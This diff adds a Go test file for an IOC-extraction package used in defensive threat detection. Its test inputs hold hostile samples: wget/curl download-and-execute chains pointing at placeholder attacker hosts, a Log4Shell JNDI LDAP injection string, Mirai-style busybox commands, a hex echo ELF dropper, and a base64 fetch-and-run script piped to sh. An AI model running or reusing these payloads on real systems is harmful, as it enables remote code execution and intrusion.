@@ -0,0 +1,55 @@
+package ioc
+
+import (
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestExtract(t *testing.T) {
+	iocs := Extract([]byte("cd /tmp; wget http://192.0.2.1/bins.sh; curl -s evil.example.com/x.sh; sh bins.sh; ping 203.0.113.7\r\n"))
+	require.NotNil(t, iocs)
+	require.Equal(t, []string{"http://192.0.2.1/bins.sh", "http://evil.example.com/x.sh"}, iocs.URLs)
+	require.Equal(t, []string{"192.0.2.1", "203.0.113.7"}, iocs.IPs)
+	require.Equal(t, []string{"evil.example.com"}, iocs.Domains)
+	require.Empty(t, iocs.Droppers)
+
+	iocs = Extract([]byte("GET /?x=${jndi:ldap://198.51.100.4:1389/a} HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n"))
+	require.Equal(t, []string{"ldap://198.51.100.4:1389/a"}, iocs.URLs)
+	require.Equal(t, []string{"198.51.100.4", "10.0.0.1"}, iocs.IPs)
+
+	require.Nil(t, Extract([]byte("enable\r\nsystem\r\nshell\r\ncat /proc/mounts; /bin/busybox ECCHI\r\n")))
+	require.Nil(t, Extract([]byte("127.0.0.1 0.0.0.0 index.html mirai.arm")))
+}
+
+func TestExtractDroppers(t *testing.T) {
+	elf := []byte("\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00")
+	var loader string
+	for _, chunk := range [][]byte{elf[:6], elf[6:]} {
+		loader += "echo -ne '"
+		for _, b := range chunk {
+			loader += `\x` + hex.EncodeToString([]byte{b})
+		}
+		loader += "' >> .d\r\n"
+	}
+	iocs := Extract([]byte(loader))
+	require.NotNil(t, iocs)
+	require.Len(t, iocs.Droppers, 1)
+	sum := sha256.Sum256(elf)
+	require.Equal(t, Dropper{Encoding: "hex", SHA256: hex.EncodeToString(sum[:]), Size: len(elf), MIMEType: "application/octet-stream"}, iocs.Droppers[0])
+
+	script := "cd /tmp; wget http://malware.example.net/a.sh; chmod +x a.sh; ./a.sh"
+	iocs = Extract([]byte("echo " + base64.StdEncoding.EncodeToString([]byte(script)) + " | base64 -d | sh"))
+	require.NotNil(t, iocs)
+	require.Len(t, iocs.Droppers, 1)
+	require.Equal(t, "base64", iocs.Droppers[0].Encoding)
+	// indicators in the decoded script are included
+	require.Equal(t, []string{"http://malware.example.net/a.sh"}, iocs.URLs)
+	require.Equal(t, []string{"malware.example.net"}, iocs.Domains)
+
+	// base64 that doesn't decode to a command isn't a dropper
+	require.Nil(t, Extract([]byte("Cookie: session="+base64.StdEncoding.EncodeToString([]byte("a harmless session token value 0123456789")))))
+}